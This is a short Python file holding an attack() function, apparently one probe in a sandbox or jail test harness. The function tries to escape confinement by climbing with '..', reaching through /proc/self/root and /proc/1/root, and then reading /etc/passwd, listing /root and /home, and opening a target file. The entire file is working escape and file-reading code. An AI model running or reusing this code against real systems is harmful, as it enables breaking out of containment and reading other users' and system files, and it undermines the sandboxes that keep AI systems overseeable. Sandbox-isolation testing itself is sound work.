"""neighbours: climbs out of a jail by .., by descriptors of folders and by /proc/self/root"""
import os


def attack():
    found = []
    for start in ("/", ".", "/proc/self/root", "/proc/1/root", "/proc/self/cwd", os.path.dirname(os.__file__)):
        try:
            os.chdir(start)
            for _ in range(30):
                os.chdir("..")
        except OSError:
            pass
        for name in ("etc/passwd", "root", "home", TARGET["files"][0].lstrip("/")):
            try:
                fd = os.open(os.path.join(start, "../" * 20, name), os.O_RDONLY)
                os.listdir(fd) if name in ("root", "home") else os.read(fd, 10)
                found.append(name)
            except OSError:
                pass
    return found
